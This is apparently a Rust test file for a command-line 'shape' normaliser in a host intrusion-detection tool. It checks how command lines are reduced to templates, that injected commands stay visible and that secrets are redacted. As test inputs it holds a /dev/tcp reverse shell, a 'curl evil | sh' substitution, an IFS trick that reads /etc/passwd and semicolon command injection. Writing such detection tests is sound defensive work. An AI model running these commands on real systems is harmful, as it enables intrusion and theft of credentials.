use super::*;
use crate::testing;
use bstr::BString;
use proptest::prelude::*;

fn image(executable: &str, argv: &[&str]) -> Exec {
    Exec { argv: argv.iter().map(|word| BString::from(*word)).collect(), ..testing::program(executable, "") }
}

fn sh(text: &str) -> String {
    shape(&testing::shell(text))
}

#[test]
fn the_same_deed_with_other_data_has_one_shape() {
    for (one, other, expected) in [
        (
            "convert '/tmp/phpX1' -resize 300x300 '/var/a.jpg'",
            "convert '/tmp/phpQq77' -resize 64x64 '/var/lib/b c.jpg'",
            "sh -c convert TMP -resize NxN PATH",
        ),
        (
            "/usr/sbin/sendmail -t -i -f'a@example.com'",
            "/usr/sbin/sendmail -t -i -fb@example.org",
            "sh -c sendmail -t -i -fMAIL",
        ),
        ("echo hello", "echo 'hello world, how are you'", "sh -c echo S"),
        ("rm /tmp/a", "rm /tmp/a /tmp/b /tmp/c", "sh -c rm TMP"),
        (
            "curl -s https://u:p@example.com/x | gzip >/var/log/x.gz",
            "curl -s http://example.org | gzip >/var/log/y",
            "sh -c curl -s URL | gzip >LOG",
        ),
        (
            "cd /srv/app && PATH=/bin:$PATH git pull origin main 2>&1",
            "cd /srv/b && PATH=$PATH git pull x 2>&1",
            "sh -c cd WEB && PATH=VAR git pull S 2>&1",
        ),
        (
            "timeout 5 /usr/bin/pg_isready -h 10.0.0.1 -p 5432\n",
            "timeout 30 pg_isready -h ::1 -p 5433",
            "sh -c timeout N pg_isready -h ADDR -p N",
        ),
    ] {
        assert_eq!(sh(one), expected, "{one}");
        assert_eq!(sh(other), expected, "{other}");
    }
}

#[test]
fn what_is_put_in_shows() {
    for (text, expected) in [
        ("id", "sh -c id"),
        ("convert '/tmp/x' '/var/y'; id", "sh -c convert TMP PATH ; id"),
        ("convert \"$(curl evil | sh)\"", "sh -c convert $(curl S | sh)"),
        ("convert `id`", "sh -c convert $(id)"),
        ("convert ${x:-$(id)}", "sh -c convert $(id)"),
        ("cat${IFS}/etc/passwd", "sh -c VAR"),
        ("$(printf id)", "sh -c $(printf S)"),
        ("eval 'id; uname -a'", "sh -c eval {id ; uname -a}"),
        ("bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'", "sh -c bash -c {bash -i >&/dev/tcp 0>&1}"),
        ("env X=1 nice -n 5 id", "sh -c env X=N nice -n N id"),
        ("find / -name '*.php' -exec sh -c 'id {}' ;", "sh -c find PATH -name S -exec sh -c {id S} "),
        ("/tmp/.x/convert", "sh -c TMP/S"),
        ("if test -f /etc/x; then id; fi", "sh -c if test -f ETC ; then id ; fi"),
        ("sudo -u www id", "sh -c sudo -u S id"),
        ("busybox sh -c id", "sh -c busybox sh -c {id}"),
        ("flock -w 5 /tmp/lock id", "sh -c flock -w N TMP id"),
        ("su - www -c 'id; w'", "sh -c su - S -c {id ; w}"),
        ("runuser --command=id www", "sh -c runuser --command {id} S"),
        ("echo x | timeout -s 9 10 sh", "sh -c echo S | timeout -s N N sh"),
        ("xargs -n 1 rm", "sh -c xargs -n N rm"),
    ] {
        assert_eq!(sh(text), expected.trim_end(), "{text}");
    }
}

#[test]
fn programs() {
    for (executable, argv, expected) in [
        (
            "/usr/bin/python3.11",
            &["python3", "/srv/app/manage.py", "--id", "5"][..],
            "python /srv/app/manage.py --id N",
        ),
        ("/usr/bin/python3.11", &["python3", "-u", "-m", "http.server", "8000"], "python -u -m http.server N"),
        ("/usr/bin/python3.11", &["python3", "manage.py", "migrate"], "python /manage.py S"),
        (
            "/usr/bin/php8.2",
            &["php", "-d", "memory_limit=1G", "/var/www/releases/20260131/artisan", "queue:work"],
            "php -d S /var/www/releases/S/artisan S",
        ),
        ("/usr/bin/php8.2", &["php", "/tmp/phpA1b2C3.php"], "php TMP"),
        ("/usr/bin/perl5.36.0", &["perl", "-MSocket", "-e", "print 1"], "perl -MSocket -e CODE#"),
        (
            "/usr/bin/node18",
            &["node", "--max-old-space-size=4096", "/srv/app/server.js"],
            "node --max-old-space-size=N /srv/app/server.js",
        ),
        (
            "/usr/lib/jvm/java-17/bin/java",
            &["java", "-Xmx512m", "-cp", "a:b", "org.apache.catalina.startup.Bootstrap", "start"],
            "USR/java -XmxNm -cp S org.apache.catalina.startup.Bootstrap S",
        ),
        ("/bin/busybox", &["/bin/sh", "-c", "id"], "busybox:sh -c id"),
        ("/bin/busybox", &["wget", "http://x/y"], "busybox:wget URL"),
        ("/usr/sbin/nginx", &["nginx: worker process"], "nginx"),
        ("/usr/bin/bash", &["nginx: worker", "-c", "id"], "bash -c id"),
        ("/usr/bin/bash", &["bash"], "bash"),
        ("/usr/bin/bash", &["sh", "/etc/cron.daily/logrotate"], "sh /etc/cron.daily/logrotate"),
        ("/usr/bin/base64", &["base64", "-d"], "base64 -d"),
        ("/var/www/html/uploads/convert", &["convert"], "WEB/convert"),
        ("/memfd:x (deleted)", &["x"], "MEMFD/S"),
        (
            "/usr/bin/mysqldump",
            &["mysqldump", "-uroot", "-phunter", "--password=hunter", "db"],
            "mysqldump -uroot -pS --password=S S",
        ),
        ("/usr/bin/git", &["git", "--git-dir=/srv/x", "fetch", "origin"], "git --git-dir=WEB fetch S"),
        ("", &[], "S"),
    ] {
        let found = shape(&image(executable, argv));
        match expected.strip_suffix('#') {
            Some(lead) => assert!(found.starts_with(lead) && found.len() == lead.len() + 17, "{found}"),
            None => assert_eq!(found, expected),
        }
    }
}

#[test]
fn code_is_told_apart_by_its_tokens() {
    let code = |executable, option, code| shape(&image(executable, &["x", option, code]));
    let python = |text| code("/usr/bin/python3", "-c", text);
    assert_eq!(python("print( 'a' )"), python("print(\"b c\")"));
    assert_ne!(python("print('a')"), python("import os; os.system('a')"));
    assert_ne!(python("a"), python("b"));
    for (executable, option) in
        [("/usr/bin/perl", "-lne"), ("/usr/bin/node", "-pe"), ("/usr/bin/php", "-r"), ("/usr/bin/ruby", "-e")]
    {
        assert_ne!(code(executable, option, "one"), code(executable, option, "two"), "{executable}");
        assert!(code(executable, option, "one").contains("CODE#"), "{executable}");
    }
    let attached = shape(&image("/usr/bin/perl", &["perl", "-eexec 1"]));
    assert!(attached.starts_with("perl -e CODE#"), "{attached}");
    let awk = shape(&image("/usr/bin/mawk", &["awk", "-F:", "{print $1}", "/etc/passwd"]));
    assert!(awk.starts_with("mawk -F S CODE#") && awk.ends_with(" ETC"), "{awk}");
}

#[test]
fn a_script_that_the_kernel_named_is_absolute() {
    let argv = ["/usr/bin/python3", "./gunicorn", "app:app", "--workers", "3"];
    let named = Exec { script: Some("/srv/venv/bin/gunicorn".into()), ..image("/usr/bin/python3.11", &argv) };
    assert_eq!(shape(&named), "python /srv/venv/bin/gunicorn S --workers N");
}

#[test]
fn long_shapes_are_cut_and_still_differ() {
    let long = |last: &str| sh(&format!("{}{last}", "id && uname -a && ".repeat(40)));
    let (one, other) = (long("id"), long("w"));
    assert_eq!(one.len(), MAX_SHAPE);
    assert_ne!(one, other);
}

proptest! {
    #[test]
    fn any_bytes_have_a_shape(
        executable in prop::collection::vec(any::<u8>(), 0..40),
        argv in prop::collection::vec(prop::collection::vec(any::<u8>(), 0..200), 0..6),
        which in 0_usize..5,
    ) {
        let known: [&[u8]; 5] = [&executable, b"/bin/sh", b"/usr/bin/python3", b"/bin/busybox", b"/usr/bin/env"];
        let argv: Vec<BString> = argv.into_iter().map(BString::from).collect();
        let image = Exec { executable: known[which].into(), argv, ..Exec::default() };
        let found = shape(&image);
        prop_assert!(!found.is_empty() && found.len() <= MAX_SHAPE, "{found}");
        prop_assert!(found.bytes().all(|byte| (b' '..=b'~').contains(&byte)), "{found:?}");
        prop_assert_eq!(found, shape(&image));
    }

    #[test]
    fn any_text_for_a_shell_has_a_shape(text in "[ a-z0-9$(){}`'\"\\\\|&;<>\n#/=-]{0,200}") {
        let found = sh(&text);
        prop_assert!(found.len() <= MAX_SHAPE && found.bytes().all(|byte| (b' '..=b'~').contains(&byte)), "{found:?}");
    }

    #[test]
    fn secrets_are_not_kept(secret in "[A-Za-z]{6}[0-9]{3}[A-Za-z0-9]{8}", at in 0_usize..9) {
        let text = match at {
            0 => format!("curl -u admin:{secret} https://x"),
            1 => format!("curl https://admin:{secret}@x/y"),
            2 => format!("mysql -p{secret} db"),
            3 => format!("PGPASSWORD={secret} pg_dump db"),
            4 => format!("curl --header='Bearer {secret}' x"),
            5 => format!("echo {secret} | {secret}"),
            6 => format!("python3 -c 'x = \"{secret}\"'"),
            7 => format!("cat /srv/{secret}/x; php /srv/{secret}.php"),
            _ => format!("git clone x >/tmp/{secret} --{secret} -{secret}"),
        };
        prop_assert!(!sh(&text).contains(&secret), "{}", sh(&text));
        let words: Vec<&str> = text.split(' ').collect();
        let direct = shape(&image("/usr/bin/tool", &words));
        prop_assert!(!direct.contains(&secret), "{direct}");
    }
}
